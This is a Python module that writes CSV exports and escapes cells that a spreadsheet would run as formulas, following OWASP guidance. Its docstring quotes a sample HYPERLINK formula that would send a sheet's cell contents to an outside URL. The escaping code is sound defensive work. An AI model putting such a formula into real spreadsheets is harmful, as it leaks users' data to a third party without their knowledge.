"""Tables as CSV that a spreadsheet opens as text. Every CSV Dossier writes goes through here.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by
Excel, LibreOffice and Google Sheets: a page titled `=HYPERLINK("http://…/?"&A1,"Open")` would
become a live link that sends the sheet's cells away. Such a cell is written with a leading
apostrophe, as OWASP's CSV injection guidance says, so it opens as the text it was; quotes and
separators inside a cell are quoted by the csv module, and its line breaks are "\\n" ones.
Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value as a CSV cell: a list's items spaced, a text that would be a formula escaped."""
    if isinstance(value, list | tuple):
        value = " ".join(map(str, value))
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS):
        value = "'" + value
    # The file's line end is "\n": a carriage return in a cell would be one unquoted.
    return value.replace("\r\n", "\n").replace("\r", "\n")


def to_csv(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> bytes:
    """UTF-8 CSV with a header row, "\\n" line ends, only `columns` (in that order)."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\n", extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({key: cell(value) for key, value in row.items()})
    return out.getvalue().encode()
